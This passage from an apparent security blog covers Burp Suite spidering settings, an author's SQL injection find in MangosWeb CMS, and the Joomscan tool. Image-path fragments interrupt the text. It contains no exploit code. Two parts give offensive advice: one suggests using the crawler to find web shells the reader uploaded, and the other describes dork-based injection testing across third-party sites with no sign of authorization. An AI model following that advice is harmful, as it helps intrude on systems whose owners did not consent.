defaultsettings are fine but this is where you can go in those pesky situations to help fine tune things.

NOTE: the sitemap sub-tab is where all of the results will be presented once the crawling/spidering begins; hang tight and we will come back to that one in a bit…

OK now that we have defined our scope we need to define the options for our crawler or spidering results. These options will define how the crawling is done, how forms are handled, etc. In the first half of the options you can define some general settings like checking for robots.txt file for added info or the crawl depth to use. You can also define the forms and how they are handled in this upper half. This allows you to fill out some basic info once and haveit submitted automatically for you anytime the crawler comes across a form it will use smart technology to match as best it can. You can also have it ignore the forms altogether or go into interactive mode and have it prompt you for action on all forms it comes across. If it does have valid credentials then the crawler will obviously get a more in depth scan with more accurate results so if you have the proper credentials then enter them here if not just remember what you submit may show up in areport or in the logs so you may want to change the defaults if you’re on a paid gig ;)

NOTE: If you have a password protected shell getting uploaded to a sight and you can’t seem to find it, the application login prompt for guidance method is a good way to quickly find the link to your missing shell as you can check the links as they are found for authorization pages and then manually inspect to see if it is your shell (it works for me with high degree of success!).

The lower half of the options tab allows you to set the speed at which the spider engine will be running at. Please be aware of your own system limitations before adjusting the thread count to high – the default settings do seem to run fairly effective in most cases. You can also set header level information to be carried in the requests being made while crawling as well as choosing to unclick the HTTP/1.1 box and force communication in older less supported standards.

OK, now that we have everything properly setup for our scan we make one last edit which will make a huge difference in our results and how clear they are to interpret. We go to the Target tab and Sitemap sub-tab to activate our filters. You need to click on the grey area at the top which will expandwhen you click on it. In the filters section you can have it sort the results based on your liking (server response codes, by MIME types, file type, only parameterized requests - for you injectors out there, etc.). I like to setup the filters as I like them but the biggest most important one is setting to filter only in-scope items. This will block out the extra waste. If you don’t believe me try it without the filters and then try it afterwards again with filters to see how big a difference this small task makes.

It should appear as follows once the filters menu is expanded:

SPECIAL SIDE NOTE: IF you want to save the requests and/or responses from any session you need to define this from the start by clicking on the Options tab and then on the Misc. sub-tab. Here you can choose to log requests, responses, or both if you want. This is helpful if you want to manually review things after your work or if you want to pass the log results to another tool such as SQLMAP to be parsed for possible SQL injection vulnerabilities. If you choose to log anything it will prompt you to name the log file as well as definingthe location for storage.

This should get you all setup. We now go back to the Target tab and the Sitemap sub-tab, where you will now see just your target site; right click on it and choose the “Spider this host” option to launch the crawling and spidering process.

Now you sit back and wait for a few minutes while Burp scanner does its thing. You can check the status of a current crawling/spider session by checking the Spider tab and Control sub-tab:

In order to see the final results simply navigate back to the Target tab and the Sitemap sub-tab and you will see all ofthe found links on the left hand side. You can expand folders and dynamic pages to see what is within them or what options can be passed. You can also see a list of the URL links in the right hand area as shown below:

The example above is rather simple in nature but this is an easy way for you to get a feel for what a site has going on. You can play with theoptions and the filters to see how it changes the results provided to you and customize to fit your need (for example, in some cases you may want to trace what other sites are communicating to see if you can exploit trust relationships and therefor might not want to filter any results in the sitemap sub-tab so that you can see everything linked). That sums up my brief overview on how you can use Burp Suite to map out a sites infrastructure in a quick and easy manner. Youcan use the options to your advantage to find authentication forms, lost shells you might have uploaded, or just to get a better picture of what you’re up against.  I encourage you to continue playing around with Burp Suite and all the tools it has to offer. I will continue to work on coming up with new material to share withyou on how we can continue to squeeze out more usefulness out of Burp Suite tools, until next time – Enjoy!

PS - my apologies for not including these details in an earlier series for those who felt I left it out you should now have everything you need to get started and on your way with the basics J

MangosWeb SQL Vulnerability - My First 0day!

I was doing an assessment for a friend no his new site and i discovered a SQL POST injection vector via the login form being used in the CMS he had chosen. I worked my way through the site in my usual full detailed approach and when I was done I thought to myself - why is it vulnerable? I checked the CMS he was running and then I decided to start using the power of Google to see if I could find any other sites using the same software. I soon found a working dork which produced a ton of results and low and behold the injection vector seemed to be present on almost all of them I came across. I had to play with the injection syntax to come up with a few universals, but I am happy to say that my work was published to the exploit-db and 1337day exploit database sites - made my year already!

Here are the links to the full details on the exploit:

The point here is always keep your eyes and ears open as you never know what you might stumble across. If you find a vulnerability in one site, check to see if you found a site specific bug or if you actually found a sotfware bug which then affects multiple sites as opposed to a single site instance. The power of Google is amazing and this goes to show hard work does pay off. I am excited and just wanted to share with everyone else who might be following my blogs. Please check backsoon as I have several new tuts in the works and should have new content up very shortly. Until next time, Enjoy!

Monday, January 2, 2012

Joomscan! A Quick way to audit Joomla installs

Today I will briefly introduce you to a tool that has been under development for a while now thanks to OWASP. I bring to you today Joomscan! This is a Perl script which is capable of scanning your Joomla site for common misconfigurations and vulnerabilities. It doesn’t magically exploit them, but it can be a quick way to analyze a sites security and we all know Joomla has its many problems despite it being so popular and easy to use.

In order to get started you will need to first download from the main OWASPproject download page hosted on Source Forge:

You will need to edit lines 62 & 63 of the file so the full path location is set to the actual file location otherwise you will experience errors when immediately running (following the EULA Acceptance & then following the firewall scan):

Once setup properly we can run the Perl script with the –u argument followed by our target site and let it rip (you can ignore the update request and still run just fine):


NOTE: It will beep upon completion so don’t be alarmed :p

A few additional arguments which can be used:
-          We can quickly check the version running and exit by using the “-pe” argument
-          We can run the request through a proxy using the “-x proxy:port” argument
-          We can log all of the output to a file for review afterwards by adding either the “-ot” or “-oh” arguments which will output in either text or html format.
o   This flag needs to be placed first and before any others to work properly.
o   The text version emulates the terminal results while the HTML output is very clean and presentable (my preference)COMMAND: –oh –u –pe

The output option does not work unless you make it the first argument so make sure your order is right. It took me a few passes to finally figure that bug out. The results of the scan will be saved in the “/report” folder with a filename of “” (.txt/html), simply open it up to review or present as needed. The text output is pretty much a mirror of the terminal results,while the html output option is something you can actually present to someone with little modification (good for assessments and/or upgrade budget requests). Here is a few quick screenshots:



There is not much more to this tool, it doesn’t test vulnerabilities so you need to follow up manually from here. I just wanted tohighlight this tool forthose who may be unaware. It allows you to quickly assess your Joomla! site for common misconfigurations and vulnerabilities which can lead to hackers exploiting your site.

Stay patched and until next time – Enjoy!